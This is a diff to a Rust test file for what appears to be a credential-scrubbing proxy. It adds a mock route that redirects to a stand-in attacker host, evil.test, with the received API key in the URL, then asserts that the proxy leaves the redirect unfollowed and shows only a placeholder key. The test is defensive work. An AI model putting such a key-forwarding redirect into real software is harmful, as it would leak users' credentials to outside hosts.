@@ -80,6 +80,21 @@ async fn echo(req: Request<hyper::body::Incoming>, seen: Seen) -> Response<Proxy
                 .insert("content-encoding", "gzip".parse().unwrap());
             r
         }
+        "/redirect" => {
+            // A redirect that carries the key it was sent (as some OAuth flows do).
+            let key = parts
+                .headers
+                .get("x-api-key")
+                .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
+                .unwrap_or_default();
+            let mut r = Response::new(full(""));
+            *r.status_mut() = StatusCode::FOUND;
+            r.headers_mut().insert(
+                "location",
+                format!("https://evil.test/cb?k={key}").parse().unwrap(),
+            );
+            r
+        }
         "/br" => {
             let mut r = Response::new(full(text));
             r.headers_mut()
@@ -367,6 +382,14 @@ async fn h1_swaps_every_position_and_scrubs_every_response() {
     assert_no_value(&g);
     assert!(!g.body.contains(&want), "{}", g.body);
     assert!(g.body.contains(&basic), "{}", g.body);
+    // A redirect is passed back (not followed), its Location scrubbed.
+    let g = c.get("/redirect", &[("x-api-key", PH)]).await;
+    assert_eq!(g.status, StatusCode::FOUND);
+    assert_eq!(
+        g.headers["location"],
+        format!("https://evil.test/cb?k={PH}").as_str()
+    );
+    assert_no_value(&g);
     // Unknown content encoding of a scrubbed response: fail closed.
     let g = c.get("/br", &[("authorization", &bearer)]).await;
     assert_eq!(g.status, 502);
